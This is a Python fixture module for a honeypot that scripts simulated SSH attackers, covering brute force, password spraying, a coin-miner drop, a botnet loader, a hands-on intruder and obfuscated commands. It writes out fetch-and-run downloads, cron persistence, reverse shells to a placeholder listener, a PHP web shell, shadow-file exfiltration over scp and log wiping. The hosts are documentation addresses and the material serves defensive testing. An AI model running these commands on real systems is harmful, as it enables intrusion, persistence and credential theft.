# SPDX-License-Identifier: AGPL-3.0-or-later
"""Who attacks the honeypot while the sample is recorded, and what each of them types.

Every host that is named lies in the documentation ranges (RFC 5737); nobody answers there, and the
honeypot does not even ask, so nothing leaves the machine.
"""

from dataclasses import dataclass, field

LOADER = "198.51.100.23"
POOL = "203.0.113.77"
LISTENER = "192.0.2.44"

# The one password that each account of the honeypot accepts.
ACCOUNTS = {"root": "admin123", "ubuntu": "ubuntu", "deploy": "deploy2024"}


@dataclass(frozen=True)
class Actor:
    """One attacker with an address of its own.

    Attributes:
        source: Loopback address it connects from.
        client: Version string its SSH client shows.
        logins: One list a connection, of (user, password) in the order tried; the last one that
            is right opens the session.
        lines: What is typed once in.
        interactive: Typed at a prompt, one after the other; otherwise one `ssh host COMMAND` each.
        upload: A file put there by SFTP before the lines: (path, content).
        key_exchange: Algorithms the client offers, so that clients have different fingerprints.
    """

    name: str
    source: str
    client: str
    logins: list[list[tuple[str, str]]]
    lines: list[str] = field(default_factory=list)
    interactive: bool = False
    upload: tuple[str, bytes] | None = None
    key_exchange: tuple[str, ...] = ()


def _in_threes(pairs: list[tuple[str, str]]) -> list[list[tuple[str, str]]]:
    return [pairs[start : start + 3] for start in range(0, len(pairs), 3)]


GUESSED = (
    "123456 password root toor 12345678 qwerty 1q2w3e4r admin letmein abc123 111111 changeme "
    "P@ssw0rd passw0rd raspberry alpine vagrant default support master dragon monkey welcome "
    "iloveyou 654321 superman server redhat centos debian oracle linux test1234 root123 admin1234"
)

BRUTE_FORCE = Actor(
    name="a brute force on root, right at the end",
    source="127.0.0.11",
    client="libssh2_1.9.0",
    logins=_in_threes([("root", word) for word in GUESSED.split()] + [("root", "admin123")]),
    lines=["uname -s -v -n -r -m"],
    key_exchange=("curve25519-sha256", "diffie-hellman-group14-sha256"),
)

SPRAYED = (
    "root admin ubuntu debian oracle postgres mysql git jenkins hadoop ftpuser nagios "
    "tomcat www-data backup deploy pi user test guest"
)

SPRAY = Actor(
    name="one password tried on many accounts",
    source="127.0.0.12",
    client="Go",
    logins=[[(user, "Autumn2024!")] for user in SPRAYED.split()],
    key_exchange=("curve25519-sha256",),
)

MINER = Actor(
    name="a coin miner is dropped",
    source="127.0.0.21",
    client="libssh-0.9.6",
    logins=[[("root", "root"), ("root", "admin123")]],
    upload=(
        "/tmp/.xm/config.json",  # noqa: S108 - a path in the honeypot's file system
        b'{"pools": [{"url": "203.0.113.77:3333", "user": "sample"}]}\n',
    ),
    lines=[
        "nproc; cat /proc/cpuinfo | grep 'model name' | head -n 1; free -m; uptime",
        "ps aux | grep -E 'xmrig|kinsing|minerd' | grep -v grep | awk '{print $2}' | xargs kill -9",
        "systemctl stop firewalld; iptables -F; setenforce 0; ufw disable",
        (
            f"cd /tmp; mkdir -p .xm; cd .xm; wget -q http://{LOADER}/xmrig.tar.gz -O x.tgz "
            f"|| curl -s -o x.tgz http://{LOADER}/xmrig.tar.gz; tar xzf x.tgz; chmod +x xmrig"
        ),
        (
            f"nohup /tmp/.xm/xmrig -o stratum+tcp://{POOL}:3333 -u sample.worker -p x "
            "--donate-level=1 -B >/dev/null 2>&1 &"
        ),
        (
            f'(crontab -l 2>/dev/null; echo "*/10 * * * * curl -fsSL http://{LOADER}/m.sh | sh") '
            "| crontab -"
        ),
        (
            "mkdir -p ~/.ssh; echo 'ssh-rsa AAAAB3NzaC1yc2EAAAADAQABAAAAgQsampleonly w@sample' "
            ">> ~/.ssh/authorized_keys; chmod 600 ~/.ssh/authorized_keys"
        ),
        "chattr +i ~/.ssh/authorized_keys; rm -f /var/log/wtmp /var/log/btmp; history -c",
    ],
    key_exchange=("ecdh-sha2-nistp256", "diffie-hellman-group14-sha256"),
)

LOADER_BOT = Actor(
    name="a botnet's loader feels its way",
    source="127.0.0.22",
    client="PUTTY",
    logins=[[("admin", "admin"), ("root", "xc3511"), ("root", "admin123")]],
    interactive=True,
    lines=[
        "enable",
        "system",
        "shell",
        "sh",
        "/bin/busybox SMPLE",
        "cat /proc/mounts; /bin/busybox SMPLE",
        "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /",
        "cat /bin/echo | head -c 20; /bin/busybox SMPLE",
        f"/bin/busybox wget http://{LOADER}/bins/smple.x86 -O .s; chmod 777 .s; ./.s ssh.x86",
        f"tftp -g -r smple.x86 {LOADER}; chmod +x smple.x86; ./smple.x86 ssh.tftp",
        f"curl -O http://{LOADER}/bins.sh; chmod 777 bins.sh; sh bins.sh; rm -rf bins.sh",
        "echo -ne '\\x7f\\x45\\x4c\\x46\\x02\\x01\\x01' > .d; chmod 755 .d; ./.d; rm -f .d",
        "/bin/busybox ps; kill -9 1337; rm -rf .s smple.x86",
        "exit",
    ],
    key_exchange=("diffie-hellman-group14-sha1", "diffie-hellman-group14-sha256"),
)

HUMAN = Actor(
    name="a person looks round",
    source="127.0.0.31",
    client="OpenSSH_9.6p1 Ubuntu-3ubuntu13.5",
    logins=[[("ubuntu", "ubuntu")]],
    interactive=True,
    lines=[
        "whoami",
        "id",
        "uname -a",
        "cat /etc/os-release",
        "w",
        "last -n 5",
        "ls -la /home",
        "cat /etc/passwd",
        "cat /etc/shadow",
        "sudo -l",
        "find / -perm -4000 -type f 2>/dev/null",
        "ifconfig -a",
        "ip addr",
        "netstat -antp",
        "ss -tulpn",
        "ps aux",
        "env",
        "cat ~/.bash_history",
        "cat ~/.ssh/id_rsa",
        "find / -name '*.pem' -o -name 'id_rsa*' 2>/dev/null",
        "grep -ri password /var/www /etc/mysql 2>/dev/null",
        "cat /var/www/html/wp-config.php",
        "crontab -l",
        "cat /etc/crontab",
        "nmap -sS -p 22,80,445 192.0.2.0/24",
        "for i in 1 2 3; do ping -c 1 192.0.2.$i; done",
        (
            f'python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("{LISTENER}",4444));'
            '[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\''
        ),
        f"bash -i >& /dev/tcp/{LISTENER}/4444 0>&1",
        "useradd -m -s /bin/bash -G sudo support",
        "echo '<?php system($_GET[\"c\"]); ?>' > /var/www/html/.cache.php",
        "tar czf /tmp/etc.tgz /etc/passwd /etc/shadow",
        f"scp /tmp/etc.tgz drop@{LISTENER}:/srv/",
        "unset HISTFILE",
        "history -c",
        "exit",
    ],
)

OBFUSCATED = Actor(
    name="a session that hides what it does",
    source="127.0.0.41",
    client="paramiko_3.4.0",
    logins=[[("deploy", "deploy2024")]],
    lines=[
        # id; uname -a
        "echo aWQ7IHVuYW1lIC1hCg== | base64 -d | sh",
        # curl -s http://198.51.100.23/p.sh | bash
        "echo Y3VybCAtcyBodHRwOi8vMTk4LjUxLjEwMC4yMy9wLnNoIHwgYmFzaAo= | base64 --decode | bash",
        f"a=wg; b=et; c=http://{LOADER}; $a$b -q $c/s.sh -O- | sh",
        "printf '\\x63\\x61\\x74\\x20\\x2f\\x65\\x74\\x63\\x2f\\x70\\x61\\x73\\x73\\x77\\x64' | sh",
        "$(printf 'w\\150o\\141mi')",
        "c''at /e?c/sh''adow",
        "eval $(echo 'dW5zZXQgSElTVEZJTEU=' | base64 -d)",
        'perl -e \'print pack("H*","6964")\' | sh',
        "python3 -c \"exec(__import__('base64').b64decode('cHJpbnQoMSk='))\"",
    ],
    key_exchange=("ecdh-sha2-nistp521", "curve25519-sha256"),
)

ACTORS = (BRUTE_FORCE, SPRAY, MINER, LOADER_BOT, HUMAN, OBFUSCATED)
SCANNER = "127.0.0.51"
